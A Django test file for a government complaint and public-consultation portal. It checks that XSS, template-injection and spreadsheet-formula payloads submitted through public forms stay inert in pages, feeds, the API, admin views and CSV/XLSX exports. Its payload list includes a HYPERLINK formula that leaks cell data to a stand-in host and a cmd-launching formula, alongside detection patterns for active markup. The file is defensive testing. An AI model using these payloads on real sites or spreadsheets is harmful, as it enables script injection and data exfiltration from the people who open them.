"""XSS and formula payloads typed into every public form stay inert wherever the text shows up:
the receipt, the public pages and lists, the exports and feeds, the API and the admin views."""

import csv
import datetime
import io
import json
import re

import pytest
from django.core.cache import cache
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from decisions import services as decision_services
from decisions.factories import DecisionIndexPageFactory, MajorDecisionPageFactory
from decisions.models import MajorDecisionPage, ModerationStatus, PublicComment, ResponseOutcome
from feedback.factories import ComplaintFormPageFactory, advance, handler, supervisor
from feedback.models import Complaint, Status
from portal.factories import DepartmentFactory

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "<svg onload=alert(1)>",
    "{{7*7}}{% debug %}",
    "</textarea><script>alert(1)</script>",
    "'-alert(1)-'",
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
TAG = re.compile(r"<[a-zA-Z][^>]*>")
QUOTED = re.compile(r"\"[^\"]*\"|'[^']*'")
EVENT_ATTRIBUTE = re.compile(r"\son[a-z]+\s*=", re.I)
JAVASCRIPT_URL = re.compile(r"\s(?:href|src|action|formaction)\s*=\s*[\"']?\s*javascript:", re.I)


def active_markup(body):
    """The first tag with an event handler attribute or a javascript: URL, or None. Quoted
    attribute values are text (an escaped payload inside one cannot close the quote)."""
    for match in TAG.finditer(body):
        tag = match.group(0)
        if EVENT_ATTRIBUTE.search(QUOTED.sub('""', tag)) or JAVASCRIPT_URL.search(tag):
            return tag
    return None


def read(response):
    if not hasattr(response, "_security_body"):
        content = b"".join(response.streaming_content) if response.streaming else response.content
        response._security_body = content.decode("utf-8-sig", "replace")
    return response._security_body


def assert_inert(response, payload, where):
    """The response shows the payload only as text (HTML) or only as data (JSON, CSV)."""
    content_type = response.get("Content-Type", "")
    body = read(response)
    if content_type.startswith("text/html"):
        if set(payload) & set("<>\"'"):
            assert payload not in body, f"{where}: raw payload in HTML"
        assert "<script>alert" not in body, where
        assert active_markup(body) is None, f"{where}: {active_markup(body)}"
        assert "{% debug %}" not in body or "{{7*7}}" in body.replace("&#x27;", "'"), where
    elif content_type.startswith("application/json"):
        json.loads(body)
        assert response["X-Content-Type-Options"] == "nosniff", where
    elif content_type.startswith("text/csv"):
        for row in csv.reader(io.StringIO(body)):
            for cell in row:
                assert not cell.startswith(FORMULA_START), f"{where}: formula cell {cell!r}"
    else:
        raise AssertionError(f"{where}: unexpected content type {content_type}")
    return body


def assert_xlsx_inert(response, where):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{where}: formula {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_START), f"{where}: {cell.value!r}"


@pytest.fixture
def site(home):
    market = DepartmentFactory(name="示例县市场监督管理局", code="11331003")
    complaints = ComplaintFormPageFactory(parent=home)
    complaints.save_revision().publish()
    complaints.refresh_from_db()
    section = DecisionIndexPageFactory(parent=home)
    notice = MajorDecisionPageFactory(parent=section, issuing_department=market)
    return {
        "market": market,
        "complaints": complaints,
        "section": section,
        "notice": notice,
        "handler": handler(market, email="market@example.gov.cn"),
        "chief": supervisor(email="chief@example.gov.cn"),
    }


def submit_complaint(client, page, market, payload):
    response = client.post(
        page.url,
        {
            "category": "service_attitude",
            "department": str(market.pk),
            "subject": payload[:100],
            "description": f"{payload} 窗口工作人员前后三次要求补交不同的材料，每次只说一样。",
            "location": payload[:200],
            "name": "张三",
            "phone": "13812345678",
            "publish_consent": "on",
            "captcha_0": "abc",
            "captcha_1": "PASSED",
        },
    )
    assert response.status_code == 200
    return response


def submit_comment(client, notice, payload):
    return client.post(
        notice.url,
        {
            "text": f"{payload}，建议第三条补贴标准每两年调整一次。",
            "name": payload[:50],
            "sector": "",
            "contact": "",
            "captcha_0": "abc",
            "captcha_1": "PASSED",
        },
    )


def assert_all_inert(response, where):
    body = ""
    for payload in PAYLOADS:
        body = assert_inert(response, payload, where)
    return body


def test_payloads_submitted_through_the_public_forms_are_inert_on_every_page(
    client, site, admin_user
):
    page, notice = site["complaints"], site["notice"]

    # The forms themselves: the receipts, and the form shown again with an error.
    for payload in PAYLOADS:
        cache.clear()  # the rate limits count per address: each payload is a new sender
        receipt = submit_complaint(client, page, site["market"], payload)
        assert_inert(receipt, payload, "receipt")
        rejected = client.post(page.url, {"subject": payload, "description": payload})
        assert_inert(rejected, payload, "complaint form with errors")
        assert_inert(submit_comment(client, notice, payload), payload, "comment receipt")
        lookup = client.post(page.status_url(), {"tracking_number": payload, "query_code": payload})
        assert_inert(lookup, payload, "status look-up")
        assert_inert(client.get("/search/", {"q": payload}), payload, "search")
        assert_inert(client.get("/search/suggest", {"q": payload}), payload, "suggest")
    complaints = list(Complaint.objects.order_by("pk"))
    comments = list(PublicComment.objects.order_by("pk"))
    assert len(complaints) == len(comments) == len(PAYLOADS)
    assert {c.subject for c in complaints} == {p[:100].strip() for p in PAYLOADS}

    # Published: each complaint replied with its payload, each comment moderated.
    for complaint, payload in zip(complaints, PAYLOADS, strict=True):
        advance(complaint, Status.REPLIED, actor=site["handler"], reply=f"答复：{payload}")
    for comment in comments:
        decision_services.comment_moderate(comment=comment, status=ModerationStatus.PUBLISHED)
    body = assert_all_inert(client.get(page.public_url()), "public list")
    assert f"public/{complaints[-1].pk}/" in body
    for complaint in complaints:
        detail = client.get(f"{page.public_url()}{complaint.pk}/")
        assert detail.status_code == 200
        assert_all_inert(detail, "public detail")
    assert_all_inert(client.get(notice.url), "notice with published comments")
    assert_all_inert(client.get(notice.url, {"format": "json"}), "notice json")
    for fmt in ("csv", "json"):
        assert_all_inert(client.get(site["section"].url, {"format": fmt}), f"index {fmt}")
    atom = client.get(site["section"].url, {"format": "atom"})
    assert "<script>alert" not in atom.content.decode()
    assert_all_inert(client.get("/api/v2/pages/", {"fields": "*"}), "api")

    # The consultation closes and the comments are answered: the adoption report and its CSV.
    past = timezone.now() - datetime.timedelta(days=1)
    MajorDecisionPage.objects.filter(pk=notice.pk).update(
        opens_at=past - datetime.timedelta(days=30), closes_at=past
    )
    for comment, payload in zip(comments, PAYLOADS, strict=True):
        decision_services.comment_respond(
            comment=comment, outcome=ResponseOutcome.NOT_ADOPTED, reason=f"{payload}不符合上位法。"
        )
    notice = MajorDecisionPage.objects.get(pk=notice.pk)
    assert_all_inert(client.get(notice.url), "adoption report")
    report = client.get(notice.url, {"format": "csv"})
    assert report.status_code == 200
    assert report.content.decode("utf-8-sig").count("'=HYPERLINK") == 1
    assert_all_inert(report, "adoption report csv")

    # The admin views that show the texts, and the admin exports.
    client.force_login(site["chief"])
    index = reverse("complaints:index")
    assert_all_inert(client.get(index), "admin complaint list")
    for complaint in complaints:
        detail = client.get(reverse("complaints:detail", args=[complaint.pk]))
        assert detail.status_code == 200
        assert_all_inert(detail, "admin complaint detail")
    export = client.get(index, {"export": "csv"})
    assert "'=HYPERLINK" in assert_all_inert(export, "admin csv")
    assert_xlsx_inert(client.get(index, {"export": "xlsx"}), "admin xlsx")
    client.force_login(admin_user)
    comments_index = reverse("decision_comments:index")
    assert_all_inert(client.get(comments_index), "admin comment moderation")
    for comment in comments:
        edit = client.get(reverse("decision_comments:edit", args=[comment.pk]))
        assert edit.status_code == 200
        assert_all_inert(edit, "admin comment edit")
    assert_all_inert(client.get(comments_index, {"export": "csv"}), "admin comment csv")
    assert_xlsx_inert(client.get(comments_index, {"export": "xlsx"}), "admin comment xlsx")
